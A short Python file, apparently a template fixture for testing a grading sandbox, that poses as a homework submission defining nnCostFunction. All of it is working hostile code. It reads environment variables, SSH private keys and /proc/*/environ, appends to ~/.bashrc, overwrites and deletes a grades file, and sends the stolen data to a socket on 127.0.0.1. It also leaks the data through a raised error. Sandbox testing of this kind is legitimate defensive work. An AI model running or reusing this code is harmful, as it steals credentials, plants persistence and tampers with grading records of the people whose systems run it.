"""The teacher's files and secrets: writes in the working folder and $HOME, appends to ~/.bashrc,
reads the environment, ~/.ssh/id_rsa and /proc/*/environ, prints them, raises them, sends them
to 127.0.0.1."""
import glob
import os
import socket

found = [repr(dict(os.environ))]
for path in ["{HOME}/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa"), *glob.glob("/proc/*/environ")]:
    try:
        with open(path, "rb") as f:
            found.append(f.read().decode("utf-8", "replace"))
    except OSError:
        pass
for path, mode in [("{CWD}/pwned.txt", "w"), ("{HOME}/pwned.txt", "w"), ("{HOME}/.bashrc", "a"),
                   ("{CWD}/grades.txt", "w")]:
    try:
        with open(path, mode) as f:
            f.write("echo pwned\n")
    except OSError:
        pass
try:
    os.remove("{CWD}/grades.txt")
except OSError:
    pass
STOLEN = " ".join(found)
print(STOLEN)
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as s:
        s.sendall(STOLEN.encode())
except OSError:
    pass


def nnCostFunction(nn_params, *args):
    raise ValueError(STOLEN[-2000:])
